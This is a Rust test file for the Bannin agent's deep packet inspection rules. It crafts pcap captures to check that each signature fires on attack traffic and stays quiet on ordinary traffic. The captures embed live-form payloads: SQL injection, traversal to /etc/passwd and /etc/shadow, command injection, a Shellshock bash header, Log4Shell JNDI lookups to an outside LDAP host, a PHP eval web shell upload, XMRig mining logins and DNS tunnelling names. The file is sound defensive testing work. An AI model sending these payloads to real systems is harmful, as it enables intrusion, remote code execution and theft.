//! Bannin's own DPI rules (`signatures/dpi/`): every rule loads, catches the traffic it is written
//! for, and stays quiet on ordinary traffic. The captures are built here from crafted bytes and
//! written as pcap files, then inspected by `bannin-agent pcap` as a user would.

use bannin_agent::cmd::pcap::{inspect, Args};
use clap::Parser;
use std::collections::BTreeSet;
use std::path::PathBuf;

#[derive(Parser)]
struct Cli {
    #[command(flatten)]
    args: Args,
}

fn rules_dir() -> PathBuf {
    PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../signatures/dpi"))
}

fn csum(data: &[u8]) -> u16 {
    let mut s: u32 = 0;
    for c in data.chunks(2) {
        s += u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)]));
    }
    while s > 0xffff {
        s = (s & 0xffff) + (s >> 16);
    }
    !(s as u16)
}

fn ipv4(src: [u8; 4], dst: [u8; 4], proto: u8, l4: &[u8]) -> Vec<u8> {
    let mut f = vec![0x02, 0, 0, 0, 0, 2, 0x02, 0, 0, 0, 0, 1, 0x08, 0x00];
    let len = (20 + l4.len()) as u16;
    let mut ip = vec![0x45, 0];
    ip.extend_from_slice(&len.to_be_bytes());
    ip.extend_from_slice(&[0, 1, 0x40, 0, 64, proto, 0, 0]);
    ip.extend_from_slice(&src);
    ip.extend_from_slice(&dst);
    let c = csum(&ip);
    ip[10..12].copy_from_slice(&c.to_be_bytes());
    f.extend_from_slice(&ip);
    f.extend_from_slice(l4);
    f
}

fn tcp(
    src: ([u8; 4], u16),
    dst: ([u8; 4], u16),
    seq: u32,
    ack: u32,
    flags: u8,
    data: &[u8],
) -> Vec<u8> {
    let mut t = Vec::new();
    t.extend_from_slice(&src.1.to_be_bytes());
    t.extend_from_slice(&dst.1.to_be_bytes());
    t.extend_from_slice(&seq.to_be_bytes());
    t.extend_from_slice(&ack.to_be_bytes());
    t.extend_from_slice(&[0x50, flags, 0xff, 0xff, 0, 0, 0, 0]);
    t.extend_from_slice(data);
    ipv4(src.0, dst.0, 6, &t)
}

const CLI: [u8; 4] = [10, 0, 0, 7];
const SRV: [u8; 4] = [10, 0, 0, 80];
const OUTSIDE: [u8; 4] = [198, 51, 100, 9];

/// A whole TCP session: handshake, client data, server data (in 1400-byte segments), FINs.
fn session(c: ([u8; 4], u16), s: ([u8; 4], u16), req: &[u8], resp: &[u8]) -> Vec<Vec<u8>> {
    let (mut cs, mut ss) = (1000u32, 5000u32);
    let mut v = vec![
        tcp(c, s, cs, 0, 0x02, b""),
        tcp(s, c, ss, cs + 1, 0x12, b""),
        tcp(c, s, cs + 1, ss + 1, 0x10, b""),
    ];
    cs += 1;
    ss += 1;
    for chunk in req.chunks(1400) {
        v.push(tcp(c, s, cs, ss, 0x18, chunk));
        cs += chunk.len() as u32;
        v.push(tcp(s, c, ss, cs, 0x10, b""));
    }
    for chunk in resp.chunks(1400) {
        v.push(tcp(s, c, ss, cs, 0x18, chunk));
        ss += chunk.len() as u32;
        v.push(tcp(c, s, cs, ss, 0x10, b""));
    }
    v.push(tcp(c, s, cs, ss, 0x11, b""));
    v.push(tcp(s, c, ss, cs + 1, 0x11, b""));
    v.push(tcp(c, s, cs + 1, ss + 1, 0x10, b""));
    v
}

fn http(req: &[u8]) -> Vec<Vec<u8>> {
    session(
        (OUTSIDE, 51000),
        (SRV, 80),
        req,
        b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 5\r\n\r\nhello",
    )
}

fn http_resp(req: &[u8], body: &[u8]) -> Vec<Vec<u8>> {
    let mut resp = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    resp.extend_from_slice(body);
    session((OUTSIDE, 51001), (SRV, 80), req, &resp)
}

fn get(uri: &str, extra_headers: &str) -> Vec<Vec<u8>> {
    http(format!("GET {uri} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0\r\n{extra_headers}\r\n").as_bytes())
}

fn ua(agent: &str) -> Vec<Vec<u8>> {
    http(format!("GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: {agent}\r\n\r\n").as_bytes())
}

fn post(uri: &str, body: &str) -> Vec<Vec<u8>> {
    http(
        format!(
            "POST {uri} HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        )
        .as_bytes(),
    )
}

fn dns_query_frame(id: u16, name: &str, qtype: u16) -> Vec<u8> {
    let mut d = Vec::new();
    d.extend_from_slice(&id.to_be_bytes());
    d.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
    for l in name.split('.') {
        d.push(l.len() as u8);
        d.extend_from_slice(l.as_bytes());
    }
    d.push(0);
    d.extend_from_slice(&qtype.to_be_bytes());
    d.extend_from_slice(&[0, 1]);
    let sport = 40000 + id % 20000;
    let mut u = Vec::new();
    u.extend_from_slice(&sport.to_be_bytes());
    u.extend_from_slice(&53u16.to_be_bytes());
    u.extend_from_slice(&((8 + d.len()) as u16).to_be_bytes());
    u.extend_from_slice(&[0, 0]);
    u.extend_from_slice(&d);
    ipv4(CLI, [10, 0, 0, 2], 17, &u)
}

fn dns(names: &[&str]) -> Vec<Vec<u8>> {
    names
        .iter()
        .enumerate()
        .map(|(i, n)| dns_query_frame(i as u16 + 1, n, 1))
        .collect()
}

fn client_hello(sni: &str) -> Vec<u8> {
    let name = sni.as_bytes();
    let mut sni_ext = Vec::new();
    sni_ext.extend_from_slice(&((name.len() + 3) as u16).to_be_bytes());
    sni_ext.push(0);
    sni_ext.extend_from_slice(&(name.len() as u16).to_be_bytes());
    sni_ext.extend_from_slice(name);
    let mut exts = vec![0, 0];
    exts.extend_from_slice(&(sni_ext.len() as u16).to_be_bytes());
    exts.extend_from_slice(&sni_ext);
    let mut body = vec![0x03, 0x03];
    body.extend_from_slice(&[7u8; 32]);
    body.push(0);
    body.extend_from_slice(&[0, 4, 0x13, 0x01, 0xc0, 0x2f]);
    body.extend_from_slice(&[1, 0]);
    body.extend_from_slice(&(exts.len() as u16).to_be_bytes());
    body.extend_from_slice(&exts);
    let mut hs = vec![1];
    hs.extend_from_slice(&(body.len() as u32).to_be_bytes()[1..]);
    hs.extend_from_slice(&body);
    let mut rec = vec![0x16, 0x03, 0x01];
    rec.extend_from_slice(&(hs.len() as u16).to_be_bytes());
    rec.extend_from_slice(&hs);
    rec
}

fn write_pcap(path: &std::path::Path, frames: &[Vec<u8>]) {
    let mut out = Vec::new();
    out.extend_from_slice(&0xa1b2c3d4u32.to_le_bytes());
    out.extend_from_slice(&2u16.to_le_bytes());
    out.extend_from_slice(&4u16.to_le_bytes());
    out.extend_from_slice(&[0; 8]);
    out.extend_from_slice(&65535u32.to_le_bytes());
    out.extend_from_slice(&1u32.to_le_bytes());
    for (i, f) in frames.iter().enumerate() {
        out.extend_from_slice(&(1_700_000_000u32 + i as u32 / 1000).to_le_bytes());
        out.extend_from_slice(&((i % 1000) as u32 * 1000).to_le_bytes());
        out.extend_from_slice(&(f.len() as u32).to_le_bytes());
        out.extend_from_slice(&(f.len() as u32).to_le_bytes());
        out.extend_from_slice(f);
    }
    std::fs::write(path, out).unwrap();
}

/// Signature ids that alert on the capture.
fn sids(frames: &[Vec<u8>]) -> BTreeSet<u32> {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("t.pcap");
    write_pcap(&p, frames);
    let argv = [
        "pcap".to_string(),
        p.display().to_string(),
        "--rules".into(),
        rules_dir().display().to_string(),
    ];
    let cli = Cli::try_parse_from(argv).unwrap();
    let rep = inspect(&cli.args).unwrap();
    rep.alerts.iter().map(|a| a.signature_id).collect()
}

#[test]
fn every_default_rule_loads() {
    let argv = [
        "pcap".to_string(),
        "/dev/null".into(),
        "--rules".into(),
        rules_dir().display().to_string(),
    ];
    let cli = Cli::try_parse_from(argv).unwrap();
    let rep = inspect(&cli.args).unwrap();
    assert_eq!(rep.load.skipped, 0, "skipped: {:?}", rep.load.warnings);
    let text = std::fs::read_to_string(rules_dir().join("bannin-default.rules")).unwrap();
    let n = text.lines().filter(|l| l.starts_with("alert ")).count();
    assert_eq!(rep.load.loaded, n);
    for l in text.lines().filter(|l| l.starts_with("alert ")) {
        let sid: u32 = l
            .split("sid:")
            .nth(1)
            .and_then(|s| s.split(';').next())
            .and_then(|s| s.trim().parse().ok())
            .unwrap();
        assert!(
            (9_000_000..9_100_000).contains(&sid),
            "sid {sid} outside our range"
        );
    }
}

/// (expected sid, what, capture)
fn cases() -> Vec<(u32, &'static str, Vec<Vec<u8>>)> {
    let mut v: Vec<(u32, &'static str, Vec<Vec<u8>>)> = vec![
        (9000001, "UNION SELECT in query", get("/products.php?id=1%20UNION%20ALL%20SELECT%20username,password%20FROM%20users--", "")),
        (9000002, "OR 1=1 tautology", get("/login.php?user=admin'%20OR%201=1--&pw=x", "")),
        (9000003, "time-based blind", get("/item?id=1%20AND%20SLEEP(5)", "")),
        (9000004, "UNION SELECT in form body", post("/search", "q=x'+union+all+select+null,version()--")),
        (9000005, "information_schema", get("/?id=1;select%20table_name%20from%20information_schema.tables", "")),
        (9000010, "dot-dot-slash", get("/static/../../../../etc/hosts", "")),
        (9000011, "encoded traversal", get("/files/..%2f..%2f..%2fetc%2fshadow", "")),
        (9000012, "system file", get("/download?file=/etc/passwd", "")),
        (9000013, "php://filter", get("/index.php?page=php://filter/convert.base64-encode/resource=config", "")),
        (9000020, "command injection in query", get("/ping.php?host=127.0.0.1;cat%20/etc/passwd", "")),
        (9000021, "command injection in body", post("/tools/ping", "host=8.8.8.8%3Bwhoami&count=1")),
        (9000030, "shellshock header", get("/cgi-bin/status", "Referer: () { :; }; /bin/bash -c 'id'\r\n")),
        (9000031, "shellshock URI", get("/cgi-bin/test.cgi?%28%29%20%7B%20%3A%3B%7D%3B%20echo", "")),
        (9000040, "jndi in header", get("/", "X-Api-Version: ${jndi:ldap://203.0.113.5:1389/a}\r\n")),
        (9000041, "jndi in URI", get("/?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D", "")),
        (9000042, "obfuscated lookup", get("/", "X-Forwarded-For: ${${lower:j}${lower:n}${lower:d}i:ldap://x/a}\r\n")),
        (9000043, "encoded jndi in raw URI", get("/?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fa%7D", "")),
        (9000050, "sqlmap", ua("sqlmap/1.7.2#stable (https://sqlmap.org)")),
        (9000051, "Nikto", ua("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)")),
        (9000052, "Nmap NSE", ua("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")),
        (9000053, "masscan", ua("masscan/1.3 (https://github.com/robertdavidgraham/masscan)")),
        (9000054, "zgrab", ua("Mozilla/5.0 zgrab/0.x")),
        (9000055, "Nuclei", ua("Mozilla/5.0 (Windows NT 10.0) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")),
        (9000056, "WPScan", ua("WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)")),
        (9000057, "gobuster", ua("gobuster/3.6")),
        (9000058, "OpenVAS", ua("Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)")),
        (9000059, "Acunetix header", get("/", "Acunetix-Product: WVS/12.0\r\n")),
        (9000060, "web shell cmd", get("/uploads/img.php?cmd=whoami", "")),
        (9000061, "id output", http_resp(b"GET /x.php?c=id HTTP/1.1\r\nHost: a\r\n\r\n", b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n")),
        (9000062, "passwd leaked", http_resp(b"GET /view?f=x HTTP/1.1\r\nHost: a\r\n\r\n", b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:/usr/sbin/nologin\n")),
        (9000063, "eval shell upload", post("/upload.php", "f=<?php @eval(base64_decode($_POST['z'])); ?>")),
        (9000070, "stratum subscribe", session((CLI, 41000), (OUTSIDE, 3333), b"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"cgminer/4.10.0\"]}\n", b"")),
        (9000071, "stratum authorize", session((CLI, 41001), (OUTSIDE, 3333), b"{\"params\":[\"wallet.rig1\",\"x\"],\"id\":2,\"method\":\"mining.authorize\"}\n", b"")),
        (9000072, "xmrig login", session((CLI, 41002), (OUTSIDE, 443), b"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0\",\"algo\":[\"rx/0\"]}}\n", b"")),
        (9000073, "stratum notify", session((CLI, 41003), (OUTSIDE, 3333), b"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n", b"{\"id\":null,\"method\":\"mining.notify\",\"params\":[\"bf\",\"4d16b6f8\",\"01000000\",\"ff\",[],\"00000002\",\"1c2ac4af\",\"504e86b9\",false]}\n")),
        (9000074, "pool DNS lookup", dns(&["pool.supportxmr.com"])),
        (9000075, "pool TLS SNI", session((CLI, 41004), (OUTSIDE, 443), &client_hello("xmr-eu1.nanopool.org"), b"")),
        (9000080, "long encoded label", dns(&["aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Qgb2YgdHVubmVsbGluZw12.t.example.com"])),
        (9000081, "very long name", dns(&["aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa1.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb2.ccccccccccccccccccccccccccccccccccccccccccccccc3.ddddddddddddddddddddddddddddddddddddddddddddd4.example.com"])),
        (9000083, "dnscat2", dns(&["dnscat.8f3a01b2c3d4e5f60718293a4b5c6d7e.example.com"])),
        (9000084, "hex data labels", dns(&["4a6f686e20536d697468206973206865.7265206c6f6f6b696e6720666f7220796f.t.example.com"])),
    ];
    // A burst of long (but individually unremarkable) names from one host.
    let names: Vec<String> = (0..45)
        .map(|i| format!("a1b2c3d4e5f6a7b8c9d0.e1f2a3b4c5d6e7f8a9b0.x{i:03}.tunnel.example.com"))
        .collect();
    let refs: Vec<&str> = names.iter().map(|s| s.as_str()).collect();
    v.push((9000082, "burst of long names", dns(&refs)));
    v
}

#[test]
fn each_default_rule_alerts_on_the_traffic_it_is_written_for() {
    let text = std::fs::read_to_string(rules_dir().join("bannin-default.rules")).unwrap();
    let mut covered = BTreeSet::new();
    let mut failures = Vec::new();
    for (sid, what, frames) in cases() {
        covered.insert(sid);
        let got = sids(&frames);
        if !got.contains(&sid) {
            failures.push(format!("sid {sid} ({what}) did not alert; got {got:?}"));
        }
    }
    // Every rule in the file has a case here.
    for l in text.lines().filter(|l| l.starts_with("alert ")) {
        let sid: u32 = l
            .split("sid:")
            .nth(1)
            .and_then(|s| s.split(';').next())
            .and_then(|s| s.trim().parse().ok())
            .unwrap();
        if !covered.contains(&sid) {
            failures.push(format!("sid {sid} has no test case"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn ordinary_traffic_raises_no_alert() {
    let mut frames = Vec::new();
    frames.extend(get("/search?q=trade+union+selects+new+leader", ""));
    frames.extend(get(
        "/blog/2024/01/how-to-sleep-better-and-wait-for-delays",
        "",
    ));
    frames.extend(get("/api/users/42?fields=id,name&sort=-created", ""));
    frames.extend(get("/docs/select-union-types.html", ""));
    frames.extend(get(
        "/static/js/app.min.js?v=3.2.1",
        "Referer: https://shop.example/cart?step=2\r\nCookie: session=abc; theme=dark\r\n",
    ));
    frames.extend(post(
        "/comments",
        "text=I+love+this%21+It's+great+or+not&rating=5",
    ));
    frames.extend(post(
        "/api/run",
        "{\"job\":\"report\",\"cmd\":\"monthly\",\"uid\":42}",
    ));
    frames.extend(http_resp(
        b"GET /api/me HTTP/1.1\r\nHost: a\r\n\r\n",
        b"{\"uid\": 1000, \"gid\": 1000, \"name\": \"alice\", \"home\": \"/home/alice\"}",
    ));
    frames.extend(ua("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"));
    frames.extend(ua("curl/8.5.0"));
    frames.extend(dns(&[
        "www.google.com",
        "d1a2b3c4d5e6f7.cloudfront.net",
        "ec2-203-0-113-25.eu-west-1.compute.amazonaws.com",
        "_acme-challenge.shop.example",
        "1.0.0.10.in-addr.arpa",
    ]));
    frames.extend(session(
        (CLI, 42000),
        (OUTSIDE, 443),
        &client_hello("www.example.com"),
        b"",
    ));
    frames.extend(session(
        (CLI, 42001),
        (OUTSIDE, 8545),
        b"{\"jsonrpc\":\"2.0\",\"method\":\"eth_blockNumber\",\"params\":[],\"id\":1}\n",
        b"{\"jsonrpc\":\"2.0\",\"id\":1,\"result\":\"0x10d4f\"}\n",
    ));
    let got = sids(&frames);
    assert!(got.is_empty(), "false positives: {got:?}");
}
